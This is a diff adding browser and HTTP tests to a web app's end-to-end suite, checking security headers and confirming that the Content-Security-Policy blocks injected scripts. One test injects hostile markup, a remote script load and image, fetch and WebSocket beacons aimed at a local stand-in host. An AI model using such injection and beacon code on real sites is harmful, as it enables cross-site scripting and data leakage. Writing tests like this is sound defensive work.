@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import http.client
 import re
+import socket
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -15,7 +16,7 @@ import pytest
 from playwright.sync_api import Browser, Dialog, expect
 
 from surefoot.app.client.server import find
-from tests.end_to_end.browsing import Person, person, product
+from tests.end_to_end.browsing import Person, new_context, person, product
 
 pytestmark = [pytest.mark.browser, pytest.mark.timeout(900)]
 STRUCK = "window.__struck=1"
@@ -167,6 +168,50 @@ def test_a_page(witness: Witness, planted: Planted, query: str):
     witness.finds_nothing()
     if "{evil}" not in query and query != "view=fleet":
         witness.visitor.sees(re.compile("onerror|__struck"))
+
+
+def test_each_answer_of_the_pages_carries_the_headers_that_shelter_it(planted: Planted):
+    with httpx.Client(base_url=planted.pages, timeout=60) as pages:
+        for path in ("/", "/_stcore/health", "/_stcore/host-config", "/favicon.png", "/media/none.png", "/nowhere"):
+            headers = pages.get(path).headers
+            assert "default-src 'self'" in headers["content-security-policy"], path
+            assert "unsafe-eval" not in headers["content-security-policy"]
+            assert headers["x-content-type-options"] == "nosniff", path
+            assert headers["referrer-policy"] == "no-referrer", path
+            assert headers["x-frame-options"] == "DENY", path
+        assert pages.get("/media/none.png").headers["cache-control"] == "no-store"
+        assert pages.get("/_stcore/metrics").status_code == pages.get("/_stcore/metrics/").status_code == 404
+
+
+def test_markup_that_got_onto_a_page_all_the_same_could_do_nothing(browser: Browser, planted: Planted):
+    """The policy holds where escaping has failed: here the markup is put there by hand."""
+    context = new_context(browser)
+    with socket.create_server(("127.0.0.1", 0)) as far:
+        far.settimeout(0.2)
+        page = context.new_page()
+        page.goto(f"{planted.pages}/?assistant={planted.assistant}")
+        expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible()
+        assert page.evaluate("Boolean(window.__surefootEarly)"), "our own script must run, or the policy is too strict"
+        page.evaluate(
+            """([markup, far]) => {
+                document.body.insertAdjacentHTML('beforeend', markup);
+                const script = document.createElement('script');
+                script.textContent = 'window.__struck = 1';
+                document.body.append(script);
+                const other = document.createElement('script');
+                other.src = `http://${far}/far.js`;
+                document.body.append(other);
+                new Image().src = `http://${far}/?told`;
+                fetch(`http://${far}/?told`).catch(() => 0);
+                try { new WebSocket(`ws://${far}/`); } catch { }
+            }""",
+            [EVIL, f"127.0.0.1:{far.getsockname()[1]}"],
+        )
+        page.wait_for_timeout(1500)
+        assert page.evaluate("window.__struck") is None
+        with pytest.raises(TimeoutError):  # nobody has come
+            far.accept()
+        context.close()
 
 
 def test_the_documents_sections(witness: Witness, planted: Planted):
